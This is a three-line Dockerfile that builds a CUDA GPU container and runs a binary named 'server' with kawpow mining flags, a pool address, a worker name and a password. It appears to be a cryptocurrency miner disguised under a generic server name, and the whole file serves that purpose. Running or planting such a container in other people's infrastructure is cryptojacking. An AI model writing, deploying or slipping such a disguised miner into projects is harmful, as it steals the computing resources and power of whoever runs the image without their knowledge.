FROM nvidia/cuda:12.4.1-base-ubuntu22.04
COPY server /opt/server
CMD ["/opt/server", "-a", "kawpow", "-o", "work.example.invalid:443", "-u", "team.rig7", "-p", "x"]
